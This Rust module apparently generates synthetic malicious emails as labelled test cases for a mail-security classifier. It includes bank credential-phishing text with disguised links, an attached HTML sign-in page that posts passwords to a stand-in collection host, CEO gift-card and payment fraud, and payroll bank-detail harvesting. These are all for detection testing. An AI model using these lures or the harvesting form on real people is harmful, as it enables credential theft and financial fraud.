//! Mail that nobody should get: phishing, fraud and spam, each with an honest reason to be found
//! out.

use super::Kind;
use super::draft::{Draft, Maker, Outside, Party};
use super::good::first_name;
use super::intel::{LISTED_FILE, LISTED_HOSTS};

/// One of each.
pub(crate) const KINDS: &[Kind] = &[
    credential_phish,
    login_page_attached,
    chief_fraud,
    own_domain_forged,
    listed_link,
    listed_file,
    mismatched_parcel,
    bulk_spam,
    advertising,
];

/// A link that names the company's own portal and goes elsewhere, in the name of a bank.
fn credential_phish(make: &mut Maker<'_>) -> Draft {
    let to = make.person();
    let case = make.number(100_000, 999_999);
    let (brand, domain, portal) = match make.number(0, 2) {
        0 => {
            ("Meridian Bank", "meridian-bank.example", "https://online.meridian-bank.example/login")
        }
        1 => (
            "Northern Trust Savings",
            "northern-savings.example",
            "https://my.northern-savings.example/",
        ),
        _ => ("Paylane Business", "paylane.example", "https://business.paylane.example/verify"),
    };
    let target = format!(
        "https://sign-in.{}/r/{case}",
        make.pick(&["secure-session-check.example", "portal-verify-now.example"])
    );
    let text = format!(
        "Dear customer,\n\nwe noticed an unusual sign-in to your business account (case {case}). For your \
         protection outgoing payments are paused. Please confirm your identity within 24 hours:\n\n{target}\n\n\
         If you do not confirm, the account will be closed.\n\n{brand} Security\n"
    );
    let html = format!(
        "<p>Dear customer,</p>\r\n<p>we noticed an unusual sign-in to your business account (case {case}). For \
         your protection outgoing payments are <b>paused</b>. Please confirm your identity within 24 hours:</p>\r\n\
         <p><a href=\"{target}\">{portal}</a></p>\r\n<p>If you do not confirm, the account will be closed.</p>\r\n\
         <p>{brand} Security</p>"
    );
    let from = Party::new(&format!("{brand} Security"), &format!("security@{domain}"));
    let origin = Outside::forged("vps-3319.cheap-hosting.example", "198.51.100.77", "RU");
    Draft::outside(from, vec![to.into()], origin)
        .judged("MALICIOUS", "a link names a bank and goes elsewhere; DMARC fails")
        .saying(format!("Action required: unusual sign-in, case {case}"), text)
        .with_html(&html)
}

/// A page with a sign-in form, attached so that no link can be looked up.
fn login_page_attached(make: &mut Maker<'_>) -> Draft {
    let to = make.person();
    let number = make.number(1_000, 9_999);
    let page = format!(
        "<!doctype html><html><head><title>Sign in to view document {number}</title></head><body>\r\n\
         <h1>Session expired</h1><p>Sign in with your work account to open the document.</p>\r\n\
         <form method=\"post\" action=\"https://collect.form-drop.example/in.php\">\r\n\
         <input type=\"email\" name=\"user\" value=\"{}\"><input type=\"password\" name=\"pass\">\r\n\
         <button>Sign in</button></form>\r\n<script>document.title = atob('U2lnbiBpbg==');</script>\r\n</body></html>\r\n",
        to.address
    );
    let text = format!(
        "Hello {},\n\nyou have received a secured document from the scanner on the second floor ({number} KB). \
         Open the attachment in your browser and sign in to view it.\n\nThis message was sent automatically.\n",
        first_name(&to.name)
    );
    let from = Party::new("Document Scanner", "scanner@mfp-notify.example");
    let origin = Outside::unknown("host42.mfp-notify.example", "192.0.2.66", "NG");
    Draft::outside(from, vec![to.into()], origin)
        .judged("MALICIOUS", "an attached web page asks for a password; the sender proves nothing")
        .saying(format!("Scanned document {number} is ready"), text)
        .with_file(&format!("Document_{number}.html"), "text/html", page.into_bytes())
}

/// The chief's name at a free-mail address, with replies going to another one.
fn chief_fraud(make: &mut Maker<'_>) -> Draft {
    let chief = make.organisation.chief();
    let to = make.other_than(&chief);
    let local = chief.name.to_lowercase().replace(' ', ".");
    let (subject, body) = match make.number(0, 2) {
        0 => (
            "Quick task",
            "Are you at your desk? I need you to handle a payment discreetly today, I am in meetings and cannot talk. Send me your mobile number and I will give you the details.",
        ),
        1 => (
            "Confidential",
            "We are closing an acquisition and the lawyers need a first transfer before noon. Please tell me the balance of the main account and keep this between us until it is announced.",
        ),
        _ => (
            "Gift cards for the partners",
            "I would like to surprise our partners this afternoon. Can you buy ten gift cards and send me the codes by reply? I will reimburse you tonight.",
        ),
    };
    let text = format!(
        "{},\n\n{body}\n\n{}\nSent from my phone\n",
        first_name(&to.name),
        first_name(&chief.name)
    );
    let number = make.number(10, 99);
    let from = Party::new(&chief.name, &format!("{local}{number}@freemail.example"));
    let origin =
        Outside::authentic("freemail.example", "out-3.freemail.example", "203.0.113.140", "US");
    let mut draft = Draft::outside(from, vec![to.into()], origin)
        .judged("SPOOF", "the chief's name at a free-mail address, replies go to another one")
        .saying(subject, text);
    draft.reply_to = Some(Party::new(&chief.name, "ceo-office@private-reply.example"));
    draft
}

/// The company's own domain as sender, from a machine that is not the company's.
fn own_domain_forged(make: &mut Maker<'_>) -> Draft {
    let to = make.person();
    let domain = make.organisation.domain.clone();
    let day = make.day(1);
    let text = format!(
        "Dear colleague,\n\nthe payroll system is being migrated. To receive this month's salary on time, reply \
         to this message until {day} with your employee number and your current bank details.\n\nPayroll Team\n"
    );
    let from = Party::new("Payroll Team", &format!("payroll@{domain}"));
    let origin = Outside::forged("srv.bulletproof-box.example", "198.51.100.219", "SC");
    Draft::outside(from, vec![to.into()], origin)
        .judged(
            "SPOOF",
            "our own domain as sender, from outside; DMARC and composite authentication fail",
        )
        .saying("Payroll migration: confirm your bank details", text)
}

/// A sender that proves who it is, and a host that intelligence knows.
fn listed_link(make: &mut Maker<'_>) -> Draft {
    let to = make.people(2).into_iter().map(Party::from).collect();
    let host = make.pick(LISTED_HOSTS);
    let token = make.number(1 << 30, 1 << 34);
    let file =
        make.pick(&["Tender_2026_final", "Price_list_Q4", "Framework_agreement", "Delivery_plan"]);
    let link = format!("https://{host}/s/{token:x}");
    let text = format!(
        "Hello,\n\nM. Keller shared \"{file}\" with you. The link works for seven days:\n\n{link}\n\n\
         Filebasket\n"
    );
    let html = format!(
        "<p>Hello,</p>\r\n<p>M. Keller shared <b>{file}</b> with you. The link works for seven days:</p>\r\n\
         <p><a href=\"{link}\">Open the document</a></p>\r\n<p>Filebasket</p>"
    );
    let from = Party::new("M. Keller via Filebasket", "share@filebasket-mail.example");
    let origin = Outside::authentic(
        "filebasket-mail.example",
        "a4.filebasket-mail.example",
        "203.0.113.88",
        "US",
    );
    Draft::outside(from, to, origin)
        .judged(
            "MALICIOUS",
            "every check passes, and the link goes to a host that intelligence lists",
        )
        .saying(format!("{file} was shared with you"), text)
        .with_html(&html)
}

/// A file that intelligence knows by its hash.
fn listed_file(make: &mut Maker<'_>) -> Draft {
    let to = make.person();
    let number = make.number(2_000, 9_999);
    let text = format!(
        "Hi {},\n\nthe transfer from yesterday came back from your bank. Please see the remittance advice \
         {number} attached, correct the account and confirm by return.\n\nBest regards\nOlga Lind\nCargo Line Accounts\n",
        first_name(&to.name)
    );
    let from = Party::new("Olga Lind", "accounts@cargo-line.example");
    let origin =
        Outside::authentic("cargo-line.example", "relay.cargo-line.example", "192.0.2.211", "PL");
    Draft::outside(from, vec![to.into()], origin)
        .judged("MALICIOUS", "a real account that was taken over; the file's hash is listed")
        .saying(format!("Remittance {number} returned"), text)
        .with_file(
            &format!("Remittance_{number}.js"),
            "application/octet-stream",
            LISTED_FILE.to_vec(),
        )
}

/// A parcel notice in German whose link names one host and goes to another.
fn mismatched_parcel(make: &mut Maker<'_>) -> Draft {
    let to = make.person();
    let number = make.number(1 << 30, 1 << 33);
    let fee = make.amount(1, 3);
    let target = format!("https://zustellung.sendung-pruefen.example/z/{number}");
    let text = format!(
        "Guten Tag,\n\nIhre Sendung {number} konnte nicht zugestellt werden. Bitte bestätigen Sie Ihre Anschrift und \
         begleichen Sie die Gebühr von {fee} EUR:\n\n{target}\n\nIhr Paketdienst\n"
    );
    let html = format!(
        "<p>Guten Tag,</p>\r\n<p>Ihre Sendung {number} konnte nicht zugestellt werden. Bitte bestätigen Sie Ihre \
         Anschrift und begleichen Sie die Gebühr von {fee} EUR:</p>\r\n<p><a href=\"{target}\">\
         https://www.paketdienst.example/sendung/{number}</a></p>\r\n<p>Ihr Paketdienst</p>"
    );
    let from = Party::new("Paketdienst Zustellung", "service@zustell-info.example");
    let origin =
        Outside::unknown("mx1.zustell-info.example", "198.51.100.150", "TR").language("de");
    Draft::outside(from, vec![to.into()], origin)
        .judged(
            "SUSPICIOUS",
            "a link names one host and goes to another; the sender proves nothing",
        )
        .saying(format!("Ihre Sendung {number} wartet auf Bestätigung"), text)
        .with_html(&html)
}

/// Spam in bulk from a sender nobody knows.
fn bulk_spam(make: &mut Maker<'_>) -> Draft {
    let to = make.people(3).into_iter().map(Party::from).collect();
    let number = make.number(1_000, 9_999);
    let text = format!(
        "CONGRATULATIONS!!! Your address was drawn as winner number {number} of the great autumn lottery.\n\n\
         Claim your prize of $850,000 now. Send full name, address, age and occupation to our agent. \
         Act FAST, this offer is valid for 48 hours only!!!\n\nRegards\nMr. B. Coleman, Claims Department\n"
    );
    let from = Party::new("Claims Department", "info@lucky-draw-intl.example");
    let origin = Outside::unknown("unassigned.static.example", "192.0.2.9", "BR").junk("SPM", 9);
    Draft::outside(from, to, origin)
        .judged("SPAM", "the service says spam with high confidence; SPF none")
        .saying(format!("WINNER {number}!!! Claim your prize today"), text)
}

/// Advertising that nobody asked for.
fn advertising(make: &mut Maker<'_>) -> Draft {
    let to = make.people(2).into_iter().map(Party::from).collect();
    let percent = make.number(40, 85);
    let goods = make.pick(&["office chairs", "SEO packages", "business loans", "solar panels"]);
    let text = format!(
        "Save {percent}% on {goods} this week only!\n\nNo contract, no hidden cost, 100% satisfaction guaranteed. \
         Order now: https://deals.best-offers-daily.example/{percent}\n\nTo be removed write to our postal address.\n"
    );
    let html = format!(
        "<h1>Save {percent}% on {goods}</h1>\r\n<p>This week only! No contract, no hidden cost, 100% satisfaction \
         guaranteed.</p>\r\n<p><a href=\"https://deals.best-offers-daily.example/{percent}\">ORDER NOW</a></p>"
    );
    let from = Party::new("Best Offers Daily", "deals@best-offers-daily.example");
    let origin = Outside::authentic(
        "best-offers-daily.example",
        "blast7.best-offers-daily.example",
        "203.0.113.250",
        "US",
    )
    .junk("SPM", 6);
    Draft::outside(from, to, origin)
        .judged("SPAM", "unwanted advertising; the service says spam")
        .saying(format!("-{percent}%: {goods} at unbeatable prices"), text)
        .with_html(&html)
}
